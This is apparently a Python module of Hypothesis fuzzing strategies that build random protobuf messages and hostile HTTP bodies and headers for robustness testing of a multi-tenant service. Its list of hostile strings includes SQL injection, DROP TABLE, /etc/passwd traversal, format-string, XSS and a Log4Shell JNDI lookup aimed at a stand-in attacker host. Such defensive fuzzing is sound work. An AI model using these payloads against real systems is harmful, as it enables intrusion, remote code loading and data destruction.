"""Hypothesis strategies for hostile input: any protobuf message built from its descriptor
with random and boundary field values, and hostile HTTP bodies and headers.

Field values are chosen by the field's name where the name says what it holds (a workspace,
an object id, an assertion, a currency), so that a random request reaches past the first
validation into the code that looks objects up, and by the field's type otherwise: empty,
huge, unicode and control-character strings; int64 extremes; unknown enum numbers (proto3
enums are open: any int32 goes through); timestamps out of the representable range.
"""

from __future__ import annotations

import json
from collections.abc import Sequence
from dataclasses import dataclass, field
from typing import Any

from google.protobuf import descriptor, message_factory
from google.protobuf.message import Message
from hypothesis import strategies as st

FD = descriptor.FieldDescriptor

INT32 = (-(2**31), 2**31 - 1)
INT64 = (-(2**63), 2**63 - 1)
UINT32 = (0, 2**32 - 1)
UINT64 = (0, 2**64 - 1)
_RANGES: dict[int, tuple[int, int]] = {
    FD.TYPE_INT32: INT32,
    FD.TYPE_SINT32: INT32,
    FD.TYPE_SFIXED32: INT32,
    FD.TYPE_INT64: INT64,
    FD.TYPE_SINT64: INT64,
    FD.TYPE_SFIXED64: INT64,
    FD.TYPE_UINT32: UINT32,
    FD.TYPE_FIXED32: UINT32,
    FD.TYPE_UINT64: UINT64,
    FD.TYPE_FIXED64: UINT64,
}

# Strings that have broken parsers, SQL, logs and terminals before.
HOSTILE_STRINGS: list[str] = [
    "",
    " ",
    "\t\r\n",
    "\x00",
    "a\x00b",
    "\x1b[2J",
    "\u202eevil",
    "\ufeff",
    "😀" * 40,
    "é" * 300,
    "x" * 257,
    "x" * 5000,
    "y" * 70_000,
    "' OR '1'='1' --",
    "'; DROP TABLE contacts; --",
    "../../../../etc/passwd",
    "%s%s%s%n",
    "${jndi:ldap://attacker/a}",
    "<script>alert(1)</script>",
    "null",
    "-1",
    "0",
    "99999999999999999999999",
    "1e309",
    "NaN",
    "true",
    "{}",
    "[]",
    "ws_sec_a\x00",
    "WS_SEC_A",
    " ws_sec_a",
]
HOSTILE_CURRENCIES = ["usd", "eur", "inr", "USD", "xxx", "us", "usdd", "", "💵", "usd\x00", "jpy"]


@dataclass
class Pools:
    """Real values of the running system that random requests should hit: workspaces,
    object ids of both tenants, assertions (valid, of another visitor, another workspace,
    expired, forged)."""

    workspaces: Sequence[str]
    ids: Sequence[str]
    assertions: Sequence[str]
    emails: Sequence[str] = field(default_factory=lambda: ["alice@example.com"])


def hostile_text() -> st.SearchStrategy[str]:
    """Boundary strings, or random unicode (no surrogates: protobuf strings are UTF-8)."""
    return st.one_of(
        st.sampled_from(HOSTILE_STRINGS),
        st.text(max_size=40),
        st.text(alphabet=st.characters(max_codepoint=0x1F), max_size=10),
    )


def _string_for(name: str, pools: Pools) -> st.SearchStrategy[str]:
    if name == "workspace_id":
        return st.one_of(st.sampled_from(list(pools.workspaces)), hostile_text())
    if name == "identity_assertion":
        return st.one_of(st.sampled_from(list(pools.assertions)), hostile_text())
    if name == "currency":
        return st.one_of(st.sampled_from(HOSTILE_CURRENCIES), hostile_text())
    if "email" in name:
        return st.one_of(st.sampled_from(list(pools.emails)), st.emails(), hostile_text())
    if name.endswith("_id") or name.endswith("_ids") or name == "idempotency_key":
        return st.one_of(st.sampled_from(list(pools.ids)), hostile_text())
    return hostile_text()


def _integer_for(kind: int) -> st.SearchStrategy[int]:
    low, high = _RANGES[kind]
    return st.one_of(
        st.sampled_from([low, high, low + 1, high - 1, 0, -1 if low < 0 else 1, 1]),
        st.integers(low, high),
        st.integers(-10_000_000, 10_000_000).filter(lambda v: low <= v <= high),
    )


def _scalar(field_descriptor: Any, pools: Pools) -> st.SearchStrategy[Any]:
    kind = field_descriptor.type
    if kind == FD.TYPE_STRING:
        return _string_for(field_descriptor.name, pools)
    if kind == FD.TYPE_BYTES:
        return st.one_of(
            st.binary(max_size=64),
            st.sampled_from([b"", b"\xff\xfe\x00", b"{}", b"null", b"x" * 300_000]),
        )
    if kind == FD.TYPE_BOOL:
        return st.booleans()
    if kind == FD.TYPE_ENUM:
        known = [value.number for value in field_descriptor.enum_type.values]
        return st.one_of(
            st.sampled_from(known),
            st.sampled_from([-1, 99, 2**31 - 1, -(2**31)]),
            st.integers(*INT32),
        )
    if kind in (FD.TYPE_DOUBLE, FD.TYPE_FLOAT):
        return st.floats(allow_nan=True, allow_infinity=True, width=32)
    return _integer_for(kind)


def message(message_descriptor: Any, pools: Pools, depth: int = 0) -> st.SearchStrategy[Message]:
    """A random message of the descriptor's type: every field set or left unset at random."""
    message_class = message_factory.GetMessageClass(message_descriptor)
    fields = list(message_descriptor.fields)

    @st.composite
    def build(draw: st.DrawFn) -> Message:
        built = message_class()
        for field_descriptor in fields:
            if not draw(st.booleans()):
                continue
            _fill(draw, built, field_descriptor, pools, depth)
        return built

    return build()


def _fill(draw: st.DrawFn, built: Any, field_descriptor: Any, pools: Pools, depth: int) -> None:
    name = field_descriptor.name
    is_message = field_descriptor.type == FD.TYPE_MESSAGE
    if field_descriptor.is_repeated:
        if is_message and field_descriptor.message_type.GetOptions().map_entry:
            key_field = field_descriptor.message_type.fields_by_name["key"]
            value_field = field_descriptor.message_type.fields_by_name["value"]
            if value_field.type == FD.TYPE_MESSAGE:
                return
            entries = draw(
                st.dictionaries(_scalar(key_field, pools), _scalar(value_field, pools), max_size=3)
            )
            getattr(built, name).update(entries)
            return
        count = draw(st.integers(0, 3))
        container = getattr(built, name)
        for _ in range(count):
            if is_message:
                if depth >= 3:
                    return
                container.add().CopyFrom(
                    draw(message(field_descriptor.message_type, pools, depth + 1))
                )
            else:
                container.append(draw(_scalar(field_descriptor, pools)))
        return
    if is_message:
        if depth >= 3:
            return
        getattr(built, name).CopyFrom(
            draw(message(field_descriptor.message_type, pools, depth + 1))
        )
        return
    setattr(built, name, draw(_scalar(field_descriptor, pools)))


# ----- HTTP -----

JSON_SCALARS = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(-(2**70), 2**70),
    st.floats(allow_nan=False, allow_infinity=False),
    hostile_text(),
)
JSON_VALUES: st.SearchStrategy[Any] = st.recursive(
    JSON_SCALARS,
    lambda children: st.one_of(
        st.lists(children, max_size=4), st.dictionaries(hostile_text(), children, max_size=4)
    ),
    max_leaves=12,
)


def json_bytes(value: Any) -> bytes:
    """JSON as a client would send it (non-ASCII kept as UTF-8)."""
    return json.dumps(value, ensure_ascii=False).encode("utf-8", "surrogatepass")


RAW_BODIES = st.one_of(
    st.binary(max_size=200),
    st.sampled_from(
        [
            b"",
            b"{",
            b'{"a": "\xff\xfe"}',
            b"\xc3\x28",
            b"\x00" * 10,
            b"[1,2,3]",
            b"null",
            b'"just a string"',
            b"1e999999",
            b'{"text": ' + b"[" * 5000 + b"]" * 5000 + b"}",
            b'{"x": "' + b"a" * 200_000 + b'"}',
            b"\xef\xbb\xbf{}",
            b"<xml/>",
        ]
    ),
)
CONTENT_TYPES = st.sampled_from(
    [
        "application/json",
        "application/json; charset=latin-1",
        "text/plain",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x",
        "application/xml",
        "",
        "application/json; charset=utf-16",
    ]
)
# Header values as bytes on the wire: latin-1 decodable, no CR/LF (the client refuses them).
HEADER_VALUES = st.one_of(
    st.sampled_from(
        ["", " ", "é", "\xff" * 10, "Bearer ", "Bearer x.y.z", "x" * 5000, "ws_sec_a", "t=1,v1=é"]
    ),
    st.text(
        alphabet=st.characters(min_codepoint=0x20, max_codepoint=0xFF, exclude_characters="\x7f"),
        max_size=60,
    ),
)
